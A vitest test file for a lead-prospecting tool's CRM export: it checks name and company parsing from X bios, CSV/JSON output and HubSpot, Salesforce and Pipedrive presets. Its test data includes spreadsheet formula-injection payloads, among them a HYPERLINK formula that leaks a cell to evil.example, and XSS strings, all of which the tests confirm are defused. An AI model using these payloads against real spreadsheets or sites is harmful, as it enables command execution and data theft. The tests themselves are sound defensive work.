import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { exportLeads } from '../db/export.ts';
import { buildQueue, decideLead } from '../db/leads.ts';
import { saveScores, upsertMatches } from '../db/matches.ts';
import { upsertProspects } from '../db/prospects.ts';
import { addSignals, markWarmLeads } from '../db/signals.ts';
import { companyFromBio, CRM_COLUMNS, CRM_PRESET_NAMES, crmCsv, crmJson, crmRow, profileUrl, splitName, type CrmRow } from '../src/export/crm.ts';
import { AT, describeEachDatabase, minutesAfter, prospectInput, xid } from './support/db.ts';

/** The CRM export: its columns, names and companies read from X's text, formulas defused, both databases. */

describe('names and companies', () => {
  it.each([
    ['Maya Chen', 'Maya', 'Chen'],
    ['Maya Chen 🚀', 'Maya', 'Chen'],
    ['🚀 Maya 🇫🇷 Chen ✨', 'Maya', 'Chen'],
    ['𝓜𝓪𝔂𝓪 𝓒𝓱𝓮𝓷', 'Maya', 'Chen'],
    ['Ｍａｙａ Ｃｈｅｎ', 'Maya', 'Chen'],
    ['Dr. María José García López', 'María', 'José García López'],
    ["Jean-Pierre O'Neil, PhD", 'Jean-Pierre', "O'Neil"],
    ['Lucas Martin | Growth @ Acme', 'Lucas', 'Martin'],
    ['Chris Park - CMO', 'Chris', 'Park'],
    ['Ana Ruiz (she/her)', 'Ana', 'Ruiz'],
    ['Sofía Pérez · Datos', 'Sofía', 'Pérez'],
    ['sofia', 'sofia', ''],
    ['🔥🔥🔥', '', ''],
    ['\u202eEvil\u202c Name\u0007', 'Evil', 'Name'],
    ['Zoë Kravitz MBA', 'Zoë', 'Kravitz'],
    ['李 小龙', '李', '小龙'],
    ['<b>Maya</b> Chen', 'Maya', 'Chen'],
  ])('%j → %j %j', (display, first, last) => {
    expect(splitName(display)).toEqual({ first, last });
  });

  it.each([
    ['Head of Growth @brightloop', 'brightloop'],
    ['VP Marketing at Northwind Labs. Dog person', 'Northwind Labs'],
    ['Head of Sales @ Harlow & Finch', 'Harlow & Finch'],
    ['Chargée de com chez Assurances du Lac 🚀', 'Assurances du Lac'],
    ['Directora de Marketing en Seguros del Sur | runner', 'Seguros del Sur'],
    ['CMO at @stackwellhq', 'stackwellhq'],
    ['PM at Acme, ex-Globex', 'Acme'],
    ['ex-@acme, now building @globex', 'globex'],
    // Unsure: empty.
    ['madrileña en Londres', ''],
    ['Responsable RH en France', ''],
    ['formerly Acme', ''],
    ['anciennement chez Kelvo', ''],
    ['Founder. Previously at Google', ''],
    ['Head of Growth, Brightloop', ''],
    ['Engineer at scale', ''],
    ['Growth @acme and @globex', ''],
    ['', ''],
  ])('%j → %j', (bio, company) => {
    expect(companyFromBio(bio)).toBe(company);
  });

  it('builds profile links from the handle when it is one, else from the id, never from other text', () => {
    expect(profileUrl('maya_sells', '1500')).toBe('https://x.com/maya_sells');
    expect(profileUrl('javascript:alert(1)', '1500')).toBe('https://x.com/i/user/1500');
    expect(profileUrl('evil/../../x', 'not-an-id')).toBe('');
  });
});

const DAY = '2026-11-02';
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
];

describeEachDatabase('CRM export', (t) => {
  beforeEach(() => t.reset());

  /** Five people queued for two owners: hostile names, bios and reasons; one contacted, one warm. */
  async function seed() {
    const people = [
      { name: 'Maya Chen 🚀', description: 'VP Marketing at Northwind Labs. Dog person', explanation: HOSTILE[0]! },
      { name: "=cmd|' /C calc'!A0", description: 'Head of Growth @brightloop\n=cmd', explanation: HOSTILE[1]! },
      { name: '<script>alert(1)</script> Bob', description: '<img src=x onerror=alert(1)> CEO @ Acme', explanation: HOSTILE[2]! },
      { name: '\u202eLuis\u202c Gómez\u0007', description: null, explanation: `${HOSTILE[3]!}\nline two, "quoted"` },
      { name: 'Ana Ruiz', description: 'Directora en Seguros del Sur', explanation: HOSTILE[4]! },
    ];
    await upsertProspects(t.db, people.map((p, i) => prospectInput(i, { name: p.name, description: p.description, ...(i === 2 ? { username: 'javascript:alert' } : {}) })));
    await upsertMatches(t.db, people.map((_, i) => ({ persona: 'saas-en', prospectId: xid(i), seenAt: AT })));
    await saveScores(t.db, people.map((p, i) => ({ persona: 'saas-en', prospectId: xid(i), score: 90 - i, components: {}, explanation: p.explanation, scoredAt: AT })));
    const leads = await buildQueue(t.db, { persona: 'saas-en', day: DAY, perDay: 5, minScore: 50, owners: ['maya', 'lucas'], at: AT });
    await decideLead(t.db, { lead: leads[0]!.id, to: 'contacted', actor: 'lucas', at: minutesAfter(30) });
    await decideLead(t.db, { lead: leads[4]!.id, to: 'not_a_fit', reason: 'other', actor: HOSTILE[5]!, note: HOSTILE[0]!, at: minutesAfter(40) });
    await decideLead(t.db, { lead: leads[0]!.id, to: 'replied', actor: 'maya', at: minutesAfter(90) });
    await addSignals(t.db, [{ prospectId: xid(1), account: '1', kind: 'followed_back', occurredAt: minutesAfter(10) }], minutesAfter(10));
    await markWarmLeads(t.db, minutesAfter(20));
    return leads;
  }

  async function collect(chunks: AsyncGenerator<string>): Promise<string> {
    let text = '';
    for await (const chunk of chunks) text += chunk;
    return text;
  }

  it('writes the columns a CRM import expects, one row per lead, best first, with formulas defused', async () => {
    const leads = await seed();
    const text = await collect(crmCsv(t.db, { day: DAY }));
    const table = parse(text, { relax_column_count: false }) as string[][];
    expect(table[0]).toEqual(['First name', 'Last name', 'X handle', 'X profile URL', 'Company', 'Persona', 'Score', 'Reasons', 'Owner', 'State', 'Queued on', 'Last decision at', 'Decided by', 'Warm since', 'Prospector ID', 'X user ID']);
    expect(table[0]).toEqual(CRM_COLUMNS.map((c) => c.header));
    const rows = table.slice(1);
    expect(rows).toHaveLength(5);
    const byId = new Map(rows.map((r) => [r[14], Object.fromEntries(table[0]!.map((h, i) => [h, r[i]!]))]));

    const maya = byId.get(String(leads[0]!.id))!;
    expect(maya).toMatchObject({
      'First name': 'Maya',
      'Last name': 'Chen',
      'X handle': 'user_0',
      'X profile URL': 'https://x.com/user_0',
      Company: 'Northwind Labs',
      Persona: 'saas-en',
      Score: '90',
      Owner: 'maya',
      State: 'replied',
      'Queued on': DAY,
      'Last decision at': minutesAfter(90).toISOString(),
      'Decided by': 'maya',
      'Warm since': '',
      'X user ID': xid(0),
    });
    const warm = byId.get(String(leads[1]!.id))!;
    expect([warm['First name'], warm.Company, warm['Warm since'], warm['Last decision at'], warm.State]).toEqual(['cmd', 'brightloop', minutesAfter(10).toISOString(), '', 'new']);
    const hostile = byId.get(String(leads[2]!.id))!;
    // A user name that is not a handle: no handle, and the link is built from the id.
    expect([hostile['X handle'], hostile['X profile URL'], hostile['First name'], hostile.Company]).toEqual(['', `https://x.com/i/user/${xid(2)}`, 'alert', 'Acme']);
    expect(byId.get(String(leads[3]!.id))!['First name']).toBe('Luis');
    expect(byId.get(String(leads[4]!.id))!.Company).toBe('Seguros del Sur');

    // Formula injection: no cell a spreadsheet would run.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(maya.Reasons).toBe(`'${HOSTILE[0]}`);
    expect(byId.get(String(leads[1]!.id))!.Reasons).toBe(`'${HOSTILE[1]}`);
    expect(byId.get(String(leads[2]!.id))!.Reasons).toBe(`'${HOSTILE[2]}`);
    // Controls and line breaks in hostile text become spaces; quotes are CSV-quoted.
    expect(byId.get(String(leads[3]!.id))!.Reasons).toBe(`'${HOSTILE[3]} line two, "quoted"`);
    expect(byId.get(String(leads[4]!.id))!.Reasons).toBe(`'=1+1`);
    // Someone decided under a name that is a formula: defused too.
    expect(byId.get(String(leads[4]!.id))!['Decided by']).toBe(`'${HOSTILE[5]}`);
    // Bidirectional overrides and bells never reach the file.
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(text.includes('\u0007')).toBe(false);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('gives the same rows as JSON, and reads in pages whatever the size', async () => {
    await seed();
    const json = JSON.parse(await collect(crmJson(t.db, {}, 2))) as CrmRow[];
    const pages: number[] = [];
    const direct: CrmRow[] = [];
    for await (const page of exportLeads(t.db, {}, 2)) {
      pages.push(page.length);
      direct.push(...page.map(crmRow));
    }
    expect(pages).toEqual([2, 2, 1]);
    expect(json).toEqual(direct);
    expect(json.map((r) => r.score)).toEqual([90, 89, 88, 87, 86]);
    expect(new Set(json.map((r) => r.prospectorId)).size).toBe(5);
    // JSON keeps the text as it is (no spreadsheet reads it), cleaned of controls.
    expect(json[0]!.reasons).toBe(HOSTILE[0]);
    expect(JSON.parse(await collect(crmJson(t.db, { day: '2026-12-25' })))).toEqual([]);
    const csvPaged = await collect(crmCsv(t.db, {}, 2));
    expect(csvPaged).toBe(await collect(crmCsv(t.db, {}, 1000)));
  });

  it('presets name the columns as HubSpot, Salesforce and Pipedrive imports expect, with Prospector\'s own after', async () => {
    const leads = await seed();
    const tables = Object.fromEntries(
      await Promise.all(CRM_PRESET_NAMES.map(async (p) => [p, parse(await collect(crmCsv(t.db, {}, 1000, p))) as string[][]] as const)),
    );
    const tail = ['X handle', 'X profile URL', 'Persona', 'Score', 'Reasons', 'Prospector ID', 'Decided by', 'Decided at'];
    expect(tables.hubspot![0]).toEqual(['First name', 'Last name', 'Email', 'Job title', 'Company name', 'Contact owner', 'Lead status', ...tail]);
    expect(tables.salesforce![0]).toEqual(['First Name', 'Last Name', 'Company', 'Title', 'Lead Source', 'Lead Status', 'Description', 'Record Owner', ...tail]);
    expect(tables.pipedrive![0]).toEqual(['Lead title', 'Person name', 'Organization name', 'Note', 'Owner', ...tail]);
    const row = (preset: string, id: number) => {
      const [head, ...rows] = tables[preset]!;
      const found = rows.find((r) => r[head!.indexOf('Prospector ID')] === String(id))!;
      return Object.fromEntries(head!.map((h, i) => [h, found[i]!]));
    };
    expect(row('hubspot', leads[0]!.id)).toMatchObject({ 'First name': 'Maya', 'Company name': 'Northwind Labs', 'Contact owner': 'maya', 'Lead status': 'CONNECTED', 'Decided by': 'maya' });
    // Salesforce needs a last name and a company: a placeholder when there is none.
    expect(row('salesforce', leads[2]!.id)).toMatchObject({ 'First Name': 'alert', 'Last Name': 'Bob', Company: 'Acme', 'Lead Status': 'Open - Not Contacted' });
    expect(row('salesforce', leads[1]!.id)).toMatchObject({ 'Last Name': '[not provided]', Company: 'brightloop' });
    expect(row('salesforce', leads[3]!.id)).toMatchObject({ Company: '[not provided]', 'Lead Source': 'X (Prospector)' });
    expect(row('pipedrive', leads[0]!.id)).toMatchObject({ 'Lead title': 'Maya Chen, Northwind Labs', 'Person name': 'Maya Chen', 'Organization name': 'Northwind Labs', Owner: 'maya' });
    for (const table of Object.values(tables)) for (const cells of table.slice(1)) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('filters: leads with decisions, an owner, a day, states', async () => {
    const leads = await seed();
    const decided = JSON.parse(await collect(crmJson(t.db, { decided: true }))) as CrmRow[];
    expect(decided.map((r) => [r.prospectorId, r.state])).toEqual([
      [leads[0]!.id, 'replied'],
      [leads[4]!.id, 'not_a_fit'],
    ]);
    const lucas = JSON.parse(await collect(crmJson(t.db, { owner: 'lucas' }))) as CrmRow[];
    expect(lucas.map((r) => r.owner)).toEqual(['lucas', 'lucas']);
    expect(JSON.parse(await collect(crmJson(t.db, { states: ['new'] }))).length).toBe(3);
    await expect(collect(crmCsv(t.db, { day: '2 nov' }))).rejects.toThrow(/day must be 'YYYY-MM-DD'/);
  });
});
